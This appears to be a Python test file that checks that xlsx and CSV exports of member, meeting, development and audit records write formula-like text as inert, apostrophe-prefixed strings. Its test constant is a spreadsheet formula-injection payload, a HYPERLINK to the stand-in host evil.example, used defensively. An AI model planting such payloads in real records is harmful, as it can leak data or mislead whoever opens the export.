"""Exports never run what a record holds (issue 14): a text that Excel would read as a formula is
written as inert text with a leading apostrophe, in every .xlsx export and in the audit CSV."""
from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import date, datetime, timezone
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from core import context
from core.excel import csv_bytes, workbook
from plugins.members import public as members

EVIL = '=HYPERLINK("http://evil.example/?x","x")'


def _cells(body: bytes) -> list:
    return [c for ws in load_workbook(io.BytesIO(body)).worksheets for row in ws.iter_rows() for c in row]


def _evil_cells(body: bytes) -> list:
    return [c for c in _cells(body) if isinstance(c.value, str) and "HYPERLINK" in c.value]


def assert_inert(body: bytes) -> None:
    found = _evil_cells(body)
    assert found, "the member's name is in the export"
    assert all(c.data_type == "s" for c in found)
    assert any(c.value == "'" + EVIL for c in found)
    assert not any(c.data_type == "f" for c in _cells(body))


@pytest.mark.parametrize("text", [EVIL, "+1+2", "-1+2", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_text_that_starts_like_a_formula_is_written_as_text(text):
    [cell] = load_workbook(io.BytesIO(workbook([("s", ["h"], [[text]])]))).active["A2":"A2"][0]
    # a carriage return is kept (written as &#13;) or, by a writer that leaves it bare, read back as LF
    assert cell.data_type == "s" and cell.value in ("'" + text, "'" + text.replace("\r", "\n"))


def test_numbers_dates_and_plain_texts_keep_their_type():
    ws = load_workbook(io.BytesIO(workbook([("s", ["h"], [[Decimal("-35.00"), -3, date(2026, 1, 2), "a=b"]])]))).active
    assert [c.value for c in ws[2]][:2] == [-35, -3] and ws["A2"].data_type == "n"
    assert ws["C2"].value == datetime(2026, 1, 2) and ws["D2"].value == "a=b"


def test_csv_cells_follow_the_same_rule():
    text = csv_bytes(["姓名", "金额"], [[EVIL, Decimal("-35.00")], ["@x", -3], ["a", None]]).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["姓名", "金额"], ["'" + EVIL, "-35.00"], ["'@x", "-3"], ["a", ""]]


# -- every export ------------------------------------------------------------------------------
def _register(k, tenant, name=EVIL, seq=1):
    from plugins.meetings.tests.conftest import id_number  # noqa: PLC0415
    ctx = context.get() or context.system("test", source="test")
    with context.acting(ctx):
        return members.register_member(k, tenant, {
            "name": name, "gender": "male", "id_number": id_number(seq), "joined_on": date(2015, 3, 1),
            "converted_on": date(2016, 3, 1)}, status="full")


def test_the_members_annual_roster_writes_a_formula_name_as_text(k, tenant, actor, login_as):
    _register(k, tenant)
    response = login_as("secretary", tenant).get(f"/t/{tenant}/members/rosters/annual?format=xlsx")
    assert response.status_code == 200
    assert_inert(response.data)


def test_the_development_export_writes_a_formula_name_as_text(k, tenant, clock, actor, login_as):
    from plugins.development import services  # noqa: PLC0415
    from plugins.development.tests.helpers import person, set_today  # noqa: PLC0415
    set_today(clock, date(2024, 3, 1))
    services.open_case(k, tenant, {**person(), "name": EVIL}, date(2024, 3, 1))
    client = login_as("secretary", tenant)
    for path in ("/export.xlsx", "/rosters?format=xlsx"):
        response = client.get(f"/t/{tenant}/development{path}")
        assert response.status_code == 200
        assert_inert(response.data)


def test_the_meetings_attendance_sheet_writes_a_formula_name_as_text(k, tenant, actor, clock, login_as):
    from plugins.meetings import services  # noqa: PLC0415
    from plugins.meetings.tests.conftest import at  # noqa: PLC0415
    member = _register(k, tenant)
    clock.set(datetime(2026, 3, 10, 9, tzinfo=timezone.utc))
    meeting = services.schedule_meeting(k, tenant, "congress", "第一季度党员大会", at(2026, 3, 10), "活动室")
    services.record_attendance(k, tenant, meeting.id, {str(member): {"status": "present"}})
    response = login_as("viewer", tenant).get(f"/t/{tenant}/meetings/{meeting.id}/attendance.xlsx")
    assert response.status_code == 200
    assert_inert(response.data)


def test_the_audit_exports_write_a_formula_text_as_text(k, tenant, login_as):
    with context.acting(replace(context.system("test", source="test"), reason=EVIL)):
        _register(k, tenant)
    admin = login_as("district_admin")
    response = admin.get(f"/audit/export?format=xlsx&school={tenant}")
    assert response.status_code == 200
    assert_inert(response.data)
    response = admin.get(f"/audit/export?format=csv&school={tenant}")
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    cells = [c for row in rows for c in row if "HYPERLINK" in c]
    assert "'" + EVIL in cells
    assert not any(c[:1] in ("=", "+", "-", "@", "\t", "\r") for row in rows for c in row if c and not _number(c))


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
